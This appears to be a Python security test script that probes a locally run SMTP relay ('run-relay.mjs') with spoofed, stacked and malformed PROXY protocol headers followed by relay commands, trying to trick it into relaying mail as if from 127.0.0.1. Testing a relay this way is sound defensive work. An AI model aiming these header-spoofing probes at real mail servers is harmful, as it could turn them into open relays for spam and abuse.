# attack28b: PROXY protocol cases against run-relay.mjs (submission 44001 required, mx 44003 optional,
# trusted balancer 127.0.84.50, relayNetworks 127.0.0.1/32). Prints what each case saw.
import socket, struct, time, os
H = '127.0.84.1'
def conn(src, port):
    s = socket.socket(); s.bind((src, 0)); s.settimeout(3); s.connect((H, port)); return s
def rd(s, t=1.0):
    s.settimeout(t); out = b''
    try:
        while True:
            d = s.recv(65536)
            if not d: out += b'<EOF>'; break
            out += d
    except socket.timeout: pass
    except OSError as e: out += f'<{e.__class__.__name__}>'.encode()
    return out
def v1(src='127.0.0.1', dst='127.0.84.1'): return f'PROXY TCP4 {src} {dst} 40000 25\r\n'.encode()
def v2(src='127.0.0.1', dst='127.0.84.1', tlv=b'', length=None, cmd=0x21, fam=0x11):
    body = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack('!HH', 40000, 25) + tlv
    return b'\r\n\r\n\x00\r\nQUIT\n' + bytes([cmd, fam]) + struct.pack('!H', len(body) if length is None else length) + body
RELAY = b'EHLO x\r\nMAIL FROM:<a@acme.test>\r\nRCPT TO:<victim@far.test>\r\n'
def case(name, src, port, chunks, gap=0.05):
    s = conn(src, port); out = b''
    for c in chunks:
        try: s.sendall(c)
        except OSError as e: out += f'<send {e}>'.encode(); break
        time.sleep(gap); out += rd(s, 0.15)
    out += rd(s, 1.0)
    try: s.sendall(b'QUIT\r\n'); out += rd(s, 0.5)
    except OSError: pass
    s.close()
    lines = [l for l in out.decode('latin1').split('\r\n') if l and not l.startswith('250-')]
    print(f'== {name}:', ' | '.join(lines)[:600])
T, U = '127.0.84.50', '127.0.84.60'
for port in (44001, 44003):
    print('#### port', port)
    case('untrusted, v1 claiming 127.0.0.1', U, port, [v1() + RELAY])
    case('untrusted, v2 claiming 127.0.0.1', U, port, [v2() + RELAY])
    case('untrusted, no header', U, port, [RELAY])
    case('trusted, v1 for 203.0.113.5 + pipelined', T, port, [v1('203.0.113.5') + RELAY])
    case('trusted, v1 split byte a segment', T, port, [bytes([b]) for b in v1('203.0.113.5')] + [RELAY], gap=0.01)
    case('trusted, v2 split byte a segment', T, port, [bytes([b]) for b in v2('203.0.113.5')] + [RELAY], gap=0.01)
    case('trusted, v1 203.0.113.5 then second v1 127.0.0.1', T, port, [v1('203.0.113.5') + v1('127.0.0.1') + RELAY])
    case('trusted, v1 203.0.113.5 then second v2 127.0.0.1', T, port, [v1('203.0.113.5'), v2('127.0.0.1') + RELAY])
    case('trusted, v2 with TLV claiming 60000 bytes', T, port, [v2('203.0.113.5', tlv=b'\x04\xea\x60abc') + RELAY])
    case('trusted, v2 length 4090', T, port, [v2('203.0.113.5', length=4090) + RELAY])
    case('trusted, v2 length 65535', T, port, [v2('203.0.113.5', length=65535) + RELAY])
    case('trusted, v2 length 5 (short block)', T, port, [v2('203.0.113.5', length=5) + RELAY])
    case('trusted, v2 LOCAL', T, port, [v2(cmd=0x20) + RELAY])
    case('trusted, v2 UDP', T, port, [v2('203.0.113.5', fam=0x12) + RELAY])
    case('trusted, v1 UNKNOWN', T, port, [b'PROXY UNKNOWN\r\n' + RELAY])
    case('trusted, v1 TCP4 with ::1 / zone / 300.1.1.1 / leading zero', T, port, [b'PROXY TCP4 127.000.0.1 1.2.3.4 1 2\r\n' + RELAY])
    case('trusted, v1 LF only', T, port, [b'PROXY TCP4 127.0.0.1 1.2.3.4 1 2\n' + RELAY])
    case('trusted, v1 with NUL', T, port, [b'PROXY TCP4 127.0.0.1\x00 1.2.3.4 1 2\r\n' + RELAY])
    case('trusted, v1 TCP6 ::ffff:127.0.0.1', T, port, [b'PROXY TCP6 ::ffff:127.0.0.1 ::1 1 2\r\n' + RELAY])
    case('trusted, no header, SMTP', T, port, [RELAY])
    case('trusted, header never sent (6s)', T, port, [b'PROX'], gap=6)
